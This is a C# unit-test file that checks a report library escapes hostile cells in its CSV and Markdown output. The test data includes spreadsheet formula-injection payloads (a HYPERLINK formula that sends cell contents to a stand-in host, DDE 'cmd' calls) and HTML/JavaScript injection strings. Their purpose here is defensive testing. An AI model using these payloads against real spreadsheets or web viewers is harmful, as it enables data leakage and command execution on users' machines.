using TargetRules.Plans;
using TargetRules.Reporting;

namespace TargetRules.Tests.Reporting;

/// <summary>
/// Cells written by a careless or hostile plan author: a spreadsheet must not run them as formulas (CSV) and a
/// Markdown viewer must not run them as HTML or links.
/// </summary>
public sealed class HostileCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("-0.5%", "'-0.5%")]
    [InlineData("地区生产总值", "地区生产总值")]
    [InlineData("增长 -0.5%", "增长 -0.5%")]
    public void Write_CopiedCellAFormulaWouldRun_PrefixedWithAQuote(string cell, string field)
    {
        var row = new PlanRow(1, cell, cell, cell, "增长 6%", "增长 7%") { Extra = [new(cell, cell)] };
        var output = new StringWriter();

        CsvReport.Write([new PlanEvaluator().EvaluateRow(row)], output);

        var lines = output.ToString().Split("\r\n");
        lines[0].ShouldBe($"row,id,category,indicator,target,actual,state,explanation,{field}");
        lines[1].ShouldBe($"1,{field},{field},{field},增长 6%,增长 7%,Met,增长 7%，达到目标 6%,{field}");
    }

    [Fact]
    public void Write_ActualCopiedFromThePlanStartingWithAMinus_Neutralised()
    {
        var row = new PlanRow(1, "16", "城市治理指标", "环境空气质量（AQI）优良率", "达到 90%", "-0.5%");
        var output = new StringWriter();

        CsvReport.Write([new PlanEvaluator().EvaluateRow(row)], output);

        output.ToString().Split("\r\n")[1].ShouldStartWith("1,16,城市治理指标,环境空气质量（AQI）优良率,达到 90%,'-0.5%,");
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;")]
    [InlineData("[点此查看](javascript:alert(1))", "[点此查看]\\(javascript:alert(1))")]
    [InlineData("R&D 经费 &amp; 投入", "R&amp;D 经费 &amp;amp; 投入")]
    [InlineData("第一行\n<b>第二行</b>", "第一行<br>&lt;b&gt;第二行&lt;/b&gt;")]
    public void Write_MarkdownCellWithHtmlOrALink_WrittenAsText(string cell, string written)
    {
        var row = new PlanRow(1, "7", "主要经济指标", cell, "增长 6%", "增长 7%") { Extra = [new(cell, cell)] };
        var output = new StringWriter();

        MarkdownReport.Write([new PlanEvaluator().EvaluateRow(row)], output);

        var lines = output.ToString().Split(Environment.NewLine);
        lines[0].ShouldBe($"| 序号 | 指标 | {written} | 目标 | 完成情况 | 判定 | 说明 |");
        lines[2].ShouldBe($"| 7 | {written} | {written} | 增长 6% | 增长 7% | 完成 | 增长 7%，达到目标 6% |");
    }
}
